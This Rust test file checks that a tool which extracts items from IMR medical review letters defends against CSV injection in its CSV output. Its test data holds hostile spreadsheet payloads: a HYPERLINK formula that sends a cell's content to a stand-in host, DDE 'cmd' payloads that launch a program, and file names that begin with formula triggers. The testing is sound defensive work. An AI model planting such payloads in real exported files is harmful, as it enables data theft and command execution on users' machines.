//! `extract --format csv` against CSV injection (OWASP): a letter's text that begins like a
//! formula is written so a spreadsheet shows it as text; `--csv-raw` and JSON lines keep it raw.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

mod common;
use common::imr;

/// A letter with one item per line in `titles`, each upheld.
fn letter(titles: &[&str]) -> String {
    let mut s = String::from(
        "HOW THE IMR FINAL DETERMINATION WAS MADE\nx\nCLINICAL CASE SUMMARY\nx\nIMR ISSUES, DECISIONS AND RATIONALES\nThe Final Determination was based on decisions for the disputed items/services set forth below:\n",
    );
    for t in titles {
        s.push_str(&format!(
            "{t}: Upheld\nDecision rationale: The request is not medically necessary.\n"
        ));
    }
    s
}

fn temp_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("imr-csv-inj-{tag}-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn rows(csv_text: &str) -> Vec<BTreeMap<String, String>> {
    let mut r = csv::Reader::from_reader(csv_text.as_bytes());
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
    r.records()
        .map(|rec| {
            header
                .iter()
                .cloned()
                .zip(rec.unwrap().iter().map(str::to_string))
                .collect()
        })
        .collect()
}

const TITLES: [&str; 5] = [
    "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"Click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Norco 10/325 = 1 tab",
];

#[test]
fn csv_item_cells_that_begin_like_a_formula_are_written_as_text() {
    let dir = temp_dir("items");
    let path = dir.join("hostile.txt");
    std::fs::write(&path, letter(&TITLES)).unwrap();
    let (code, out, err) = imr(&["extract", "--format", "csv", path.to_str().unwrap()]);
    let (raw_code, raw_out, raw_err) = imr(&[
        "extract",
        "--format",
        "csv",
        "--csv-raw",
        path.to_str().unwrap(),
    ]);
    let (json_code, json_out, _) = imr(&["extract", path.to_str().unwrap()]);
    std::fs::remove_dir_all(&dir).ok();
    assert_eq!(code, 0, "{err}");
    assert_eq!(raw_code, 0, "{raw_err}");
    assert_eq!(json_code, 0);

    let got: Vec<String> = rows(&out)
        .into_iter()
        .map(|r| r["item_title"].clone())
        .collect();
    let want: Vec<String> = TITLES
        .iter()
        .map(|t| {
            if t.starts_with(['=', '+', '-', '@']) {
                format!("'{t}")
            } else {
                t.to_string()
            }
        })
        .collect();
    assert_eq!(
        got, want,
        "every trigger character is quoted, plain text is not"
    );
    // No cell of the file, quoted or not, begins with a trigger.
    for row in rows(&out) {
        for (col, cell) in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{col}: {cell:?}"
            );
        }
    }

    let raw: Vec<String> = rows(&raw_out)
        .into_iter()
        .map(|r| r["item_title"].clone())
        .collect();
    assert_eq!(raw, TITLES, "--csv-raw writes the cells as extracted");

    let line: serde_json::Value = serde_json::from_str(json_out.lines().next().unwrap()).unwrap();
    let titles: Vec<&str> = line["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["title"].as_str().unwrap())
        .collect();
    assert_eq!(titles, TITLES, "JSON lines stay raw");
}

/// Tab and carriage return do not survive in item text (whitespace is collapsed), but a file name
/// can begin with one: the `path` column is text from outside too.
#[test]
fn csv_path_cells_that_begin_with_tab_cr_or_a_formula_are_written_as_text() {
    let dir = temp_dir("paths");
    let names = [
        "\tx.txt",
        "\r=1+1.txt",
        "=1+1.txt",
        "@a.txt",
        "+a.txt",
        "-a.txt",
    ];
    for n in names {
        std::fs::write(dir.join(n), letter(&["MRI of the lumbar spine"])).unwrap();
    }
    let out = Command::new(env!("CARGO_BIN_EXE_imr-lsp"))
        .args(["extract", "--format", "csv", "--jobs", "1", "--"])
        .args(names)
        .current_dir(&dir)
        .output()
        .unwrap();
    std::fs::remove_dir_all(&dir).ok();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let got: Vec<String> = rows(&String::from_utf8(out.stdout).unwrap())
        .into_iter()
        .map(|r| r["path"].clone())
        .collect();
    let want: Vec<String> = names.iter().map(|n| format!("'{n}")).collect();
    assert_eq!(got, want);
}

#[test]
fn csv_raw_is_documented_in_help_and_the_schema() {
    let (code, help, _) = imr(&["extract", "--help"]);
    assert_eq!(code, 0);
    assert!(help.contains("--csv-raw"), "{help}");
    let doc = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/extract-schema.md"),
    )
    .unwrap();
    assert!(
        doc.contains("--csv-raw"),
        "docs/extract-schema.md explains --csv-raw"
    );
}
